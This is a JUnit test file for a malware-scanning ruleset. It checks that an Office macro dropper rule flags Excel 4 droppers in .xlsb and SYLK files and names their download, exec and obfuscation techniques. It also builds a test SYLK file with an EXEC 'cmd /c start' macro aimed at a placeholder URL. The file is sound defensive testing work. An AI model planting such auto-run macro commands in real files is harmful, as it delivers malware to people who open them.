package org.peekaboo.bench;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Path;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.peekaboo.bench.DropperCorpus.Sample;
import org.peekaboo.office.OleReportSource;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.office.testing.OfficeReports;
import org.peekaboo.office.testing.XlsbFiles;
import org.peekaboo.ruleset.DefaultRuleset;
import org.peekaboo.ruleset.OfficeMacroDropperRule;
import org.peekaboo.ruleset.Ruleset;
import org.peekaboo.ruleset.testing.FakeFileTypeDetector;
import org.peekaboo.ruleset.testing.FakeKnownResults;
import org.peekaboo.ruleset.testing.TestSamples;
import org.peekaboo.sample.TikaFileTypeDetector;
import org.peekaboo.verdict.Result;
import org.peekaboo.verdict.SampleVerdict;

class DropperXlsbTest {
    private final OfficeMacroDropperRule rule = new OfficeMacroDropperRule(OleReportSource.withDefaultLimits());

    @TempDir
    Path dir;

    @Test
    void everyBinaryWorkbookDropperIsBadWithItsTriggerAndPayload() throws Exception {
        Map<String, String> reasons = new TreeMap<>();
        for (Sample sample : DropperXlsb.malicious()) {
            reasons.put(sample.name(), rule.evaluate(context(sample.bytes(), sample.name())).reason());
        }
        String prefix = "The file contains an Office macro that runs by itself (Auto_Open) and ";

        assertThat(reasons).hasSize(7);
        assertThat(reasons.get("xlsb-exec.xlsb")).isEqualTo(prefix + "runs programs (EXEC (Excel 4))");
        assertThat(reasons.get("xlsb-call-urlmon-very-hidden.xlsb")).isEqualTo(prefix
                + "runs programs (EXEC (Excel 4)), downloads (URLDownloadToFile (Excel 4))");
        assertThat(reasons.get("xlsb-register-kernel32-hidden.xlsb")).isEqualTo(prefix
                + "runs programs (WinExec/ShellExecute (Excel 4))");
        assertThat(reasons.get("xlsb-register-urlmon.xlsb")).contains("downloads (URLDownloadToFile (Excel 4))");
        assertThat(reasons.get("xlsb-char-formula.xlsb")).contains("FORMULA (Excel 4)", "CHAR (Excel 4)");
        assertThat(reasons.get("xlsb-char-exec-sandbox-check.xlsb")).contains("EXEC (Excel 4)", "CHAR (Excel 4)",
                "GET.WORKSPACE (Excel 4)");
        assertThat(reasons.get("xlsb-auto-close-fwrite.xlsb")).startsWith(
                "The file contains an Office macro that runs by itself (Auto_Close)").contains("FWRITE (Excel 4)");
    }

    @Test
    void ordinaryBinaryWorkbooksAreNotBad() throws Exception {
        for (Sample sample : DropperXlsb.benign()) {
            assertThat(rule.evaluate(context(sample.bytes(), sample.name())).result()).as(sample.name())
                    .isNotEqualTo(Result.BAD);
        }
    }

    @Test
    void theBuiltInRulesetStopsBinaryAndSylkExcel4DroppersWhateverTheirName() throws IOException {
        Ruleset ruleset = DefaultRuleset.create(new FakeKnownResults(), new TikaFileTypeDetector(),
                OfficeReports.source());
        TestSamples samples = new TestSamples(dir);
        byte[] sylk = OfficeFiles.sylkWithXlmFormulas("EXEC(\"cmd /c start http://example.invalid/s\")", "HALT()");
        byte[] xlsb = DropperXlsb.malicious().getFirst().bytes();

        for (SampleVerdict verdict : new SampleVerdict[] {ruleset.run(samples.sample(sylk, "invoice.slk", null), 1),
            ruleset.run(samples.sample(sylk, "readme.txt", "text/plain"), 2),
            ruleset.run(samples.sample(xlsb, "invoice.xlsb", null), 3)}) {
            assertThat(verdict.result()).isEqualTo(Result.BAD);
            assertThat(verdict.rule()).isEqualTo("office_macro_dropper");
        }
    }

    @Test
    void aBenignBinaryWorkbookIsAnalysedAsAGreylistedOfficeFile() throws IOException {
        Ruleset ruleset = DefaultRuleset.create(new FakeKnownResults(), new TikaFileTypeDetector(),
                OfficeReports.source());

        SampleVerdict verdict = ruleset.run(new TestSamples(dir).sample(XlsbFiles.dataOnly(), "prices.xlsb", null), 1);

        assertThat(verdict.result()).isEqualTo(Result.UNKNOWN);
        assertThat(verdict.rule()).isEqualTo("final_rule");
    }

    private org.peekaboo.ruleset.SampleContext context(byte[] content, String name) throws IOException {
        return TestSamples.context(new TestSamples(dir).sample(content, name, null),
                FakeFileTypeDetector.nothingDetected());
    }
}
